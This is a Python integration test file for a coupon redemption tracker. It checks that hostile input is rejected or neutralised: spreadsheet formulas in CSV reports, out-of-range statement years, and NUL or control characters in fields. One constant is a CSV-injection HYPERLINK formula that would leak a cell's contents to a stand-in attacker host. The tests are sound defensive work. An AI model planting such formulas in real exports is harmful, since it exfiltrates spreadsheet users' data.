"""Issue 11, low items and finding 7: hostile text and numbers get a 422, never a 500.

Each test failed on a7aaca2: a campaign name came out of the CSV as a live formula, a
statement for year 9999 or 0001 was a 500, and a NUL in a code, a SKU or a void reason
was a database error.
"""

from __future__ import annotations

import csv
import io
from zoneinfo import ZoneInfo

import pytest
from flask.testing import FlaskClient

from services.redemption_tracker.bootstrap import Tracker
from services.redemption_tracker.reports.statements import CSV_COLUMNS
from tests.integration.redemption_tracker.support import one_coupon, post, void
from tests.support.redemption_tracker.builders import CampaignSpec, now, tx

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your report")'


def test_report_csv_never_carries_a_live_formula(
    client: FlaskClient, tracker: Tracker, auth: dict, store: str
) -> None:
    c = CampaignSpec(tracker, name=FORMULA)
    one_coupon(client, auth["pos"], store, tx(coupons=[c.code()]))
    r = client.get(
        f"/v1/campaigns/{c.campaign_id}/report?format=csv",
        headers={"Authorization": auth["marketer"]},
    )
    assert r.status_code == 200
    rows = dict(csv.reader(io.StringIO(r.get_data(as_text=True))))
    assert rows["name"] == "'" + FORMULA
    assert rows["counts.redeemed"] == "1"  # numbers stay numbers
    assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in rows.values())


@pytest.mark.parametrize("period", ["9999-12", "0000-01", "0001-01", "1999-12", "2101-01"])
def test_statement_period_year_is_bounded(
    client: FlaskClient, tracker: Tracker, auth: dict, period: str
) -> None:
    c = CampaignSpec(tracker)
    r = client.get(
        f"/v1/statements?campaign_id={c.campaign_id}&period={period}",
        headers={"Authorization": auth["marketer"]},
    )
    assert r.status_code == 422, r.get_json()
    assert [e["field"] for e in r.get_json()["errors"]] == ["period"]


def test_nul_in_a_campaign_id_is_a_404_not_a_database_error(
    client: FlaskClient, auth: dict
) -> None:
    h = {"Authorization": auth["marketer"]}
    assert client.get("/v1/campaigns/a%00b/report", headers=h).status_code == 404
    r = client.get("/v1/statements?campaign_id=a%00b&period=2026-11", headers=h)
    assert r.status_code == 422 and r.get_json()["errors"][0]["field"] == "campaign_id"


@pytest.mark.parametrize(
    ("change", "field"),
    [
        ({"coupon_codes": ["TN-\x00"]}, "transactions.0.coupon_codes.0"),
        ({"items": [{"sku": "49\x00", "qty": 1, "unit_price": 10}]}, "transactions.0.items.0.sku"),
        ({"member_id": "M1\x07"}, "transactions.0.member_id"),
    ],
)
def test_control_characters_reject_the_transaction_naming_the_field(
    client: FlaskClient, auth: dict, store: str, change: dict, field: str
) -> None:
    [result] = post(client, auth["pos"], store, {**tx(), **change})
    assert result["status"] == "rejected"
    assert [e["field"] for e in result["errors"]] == [field]


def test_nul_in_a_void_reason_is_a_422(client: FlaskClient, auth: dict, store: str) -> None:
    t = tx()
    post(client, auth["pos"], store, t)
    r = void(client, auth["pos"], store, t, reason="returned\x00")
    assert r.status_code == 422
    assert [e["field"] for e in r.get_json()["errors"]] == ["reason"]


def test_statement_csv_goes_through_the_same_safe_writer(
    client: FlaskClient, tracker: Tracker, auth: dict, store: str
) -> None:
    c = CampaignSpec(tracker)
    t = tx(total=2000, coupons=[c.code()])
    one_coupon(client, auth["pos"], store, t)
    assert void(client, auth["pos"], store, t).status_code == 200
    period = now().astimezone(ZoneInfo("Asia/Tokyo")).strftime("%Y-%m")
    r = client.get(
        f"/v1/statements?campaign_id={c.campaign_id}&period={period}&format=csv",
        headers={"Authorization": auth["marketer"]},
    )
    assert r.status_code == 200 and r.mimetype == "text/csv"
    rows = list(csv.reader(io.StringIO(r.get_data(as_text=True))))
    assert rows[0] == list(CSV_COLUMNS)
    by_kind = {row[1]: row for row in rows[1:]}
    assert by_kind["void"][3:6] == ["-2000", "-100", "-100"]  # negative numbers stay numbers
    assert rows[-1][0] == "total" and rows[-1][3:6] == ["0", "0", "0"]
